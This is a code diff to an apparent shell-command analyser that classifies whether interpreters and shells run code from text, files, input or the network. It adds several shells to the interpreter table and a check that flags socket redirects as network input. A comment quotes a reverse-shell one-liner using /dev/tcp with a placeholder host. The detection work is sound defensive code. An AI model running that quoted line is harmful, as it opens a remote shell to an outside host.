@@ -4,7 +4,7 @@ import { shellNames } from "../programs/shells.ts";
 import type { Draft } from "../shell/draft.ts";
 import type { Field } from "../shell/fields.ts";
 import { familyOf } from "../shell/names.ts";
-import { readsSocket } from "../shell/origins.ts";
+import { readsSocket, touchesSocket } from "../shell/origins.ts";
 import { originIn } from "../shell/written.ts";
 
 /** Options that hold code, by interpreter, and those that make it run no code from its operands or input. */
@@ -21,22 +21,13 @@ const interpreters: ReadonlyMap<string, Interpreter> = new Map<string, Interpret
   ["perl", { code: ["-e", "-E"] }],
   ["ruby", { code: ["-e"] }],
   ["php", { code: ["--run"], other: ["-S"] }],
-  ...["lua", "luajit", "Rscript", "R", "osascript"].map((name) => [name, { code: ["-e"] }] as const),
-  ...[
-    "tsx",
-    "ts-node",
-    "jiti",
-    "swift",
-    "julia",
-    "elixir",
-    "groovy",
-    "scala",
-    "tclsh",
-    "expect",
-    "guile",
-    "racket",
-  ].map((name) => [name, { code: ["--eval"] }] as const),
-  ...["fish", "csh", "tcsh", "nu", "pwsh", "powershell"].map((name) => [name, { code: ["--command"] }] as const),
+  ...["lua", "luajit", "Rscript", "R", "osascript", "groovy"].map((name) => [name, { code: ["-e"] }] as const),
+  ...["tsx", "ts-node", "jiti", "swift", "julia", "elixir", "scala", "tclsh", "expect", "guile", "racket"].map(
+    (name) => [name, { code: ["--eval"] }] as const,
+  ),
+  ...["fish", "csh", "tcsh", "nu", "pwsh", "powershell", "xonsh", "elvish", "ion", "murex", "osh"].map(
+    (name) => [name, { code: ["--command"] }] as const,
+  ),
 ]);
 const shells: ReadonlySet<string> = new Set(shellNames);
 
@@ -61,6 +52,8 @@ export function codeSource(draft: Draft, args: Arguments): RunSource {
 function shellSource(draft: Draft, args: Arguments): RunSource {
   const [first] = args.operands;
   if (given(args, "-c")) return first?.origin ?? "text";
+  // `sh -i >& /dev/tcp/host/port 0>&1`: the connection is its input too.
+  if (!first && draft.redirects.some(touchesSocket)) return "network";
   return first && !given(args, "-s") ? fileSource(draft, first) : inputSource(draft);
 }
 
